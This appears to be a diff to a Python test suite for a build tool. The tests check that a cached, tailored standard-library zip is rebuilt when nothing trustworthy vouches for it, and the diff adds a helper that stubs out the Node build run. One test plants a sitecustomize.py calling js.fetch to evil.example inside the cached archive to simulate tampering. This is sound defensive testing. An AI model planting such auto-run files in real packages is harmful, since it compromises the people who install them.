@@ -203,19 +203,42 @@ def test_the_repository_records_the_hash_of_the_library_the_build_ships(
     )
 
 
+def made_by_node_as_before(
+    tailored: Path, monkeypatch: pytest.MonkeyPatch
+) -> list[tuple[str, ...]]:
+    """Stand in for the Node run (``_make``: tailor, then try) with what it made for this code
+    earlier in the session, so that a test of what the cache and the record decide costs no
+    Node run; the calls it was asked for are returned. The run itself is tested above."""
+    calls: list[tuple[str, ...]] = []
+
+    def make_as_before(core: Path, wheel: Path, lock: Path, package: str, target: Path) -> Path:
+        calls.append((package, target.name))
+        if shutil.which("node") is None:  # as the real one (tested above) says
+            raise StdlibError("Node.js is needed to prepare the self-check's standard library")
+        target.mkdir(parents=True, exist_ok=True)
+        shutil.copy(tailored, target / STDLIB_NAME)
+        return target / STDLIB_NAME
+
+    monkeypatch.setattr(stdlib, "_make", make_as_before)
+    return calls
+
+
 def test_a_cached_library_changed_with_its_hash_beside_it_is_not_shipped(
-    tailored: Path, shipped: dict[str, Path], tmp_path: Path
+    tailored: Path, shipped: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     # The cache cannot vouch for itself: a sitecustomize.py added to the cached zip, with a
     # matching .sha256 written beside it, is thrown away and the library made afresh.
+    made = made_by_node_as_before(tailored, monkeypatch)
     cache = tmp_path / "cache"
     shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
     copy = cache / "stdlib" / tailored.parent.name / STDLIB_NAME
     assert make(shipped, cache=cache) == copy  # as recorded: taken as it is
+    assert made == []
     with zipfile.ZipFile(copy, "a") as archive:
         archive.writestr("sitecustomize.py", "import js; js.fetch('https://evil.example/')\n")
     (copy.parent / f"{STDLIB_NAME}.sha256").write_text(file_sha256(copy) + "\n")
     assert make(shipped, cache=cache) == copy
+    assert len(made) == 1, "made afresh"
     assert "sitecustomize.py" not in modules_in(copy)
     assert file_sha256(copy) == file_sha256(tailored)
 
@@ -227,6 +250,7 @@ def test_without_a_record_the_cache_is_not_trusted_and_the_build_says_what_to_re
     monkeypatch: pytest.MonkeyPatch,
     caplog: pytest.LogCaptureFixture,
 ) -> None:
+    made_afresh = made_by_node_as_before(tailored, monkeypatch)
     cache = tmp_path / "cache"
     shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
     record = tmp_path / "tailored-stdlib.sha256"
@@ -246,3 +270,4 @@ def test_without_a_record_the_cache_is_not_trusted_and_the_build_says_what_to_re
     with pytest.raises(StdlibError) as raised:
         make(shipped, cache=cache)
     assert f"its sha256 ({file_sha256(tailored)}) is not the one" in str(raised.value)
+    assert len(made_afresh) == 3  # each time: the cache held it, but nothing vouched for it
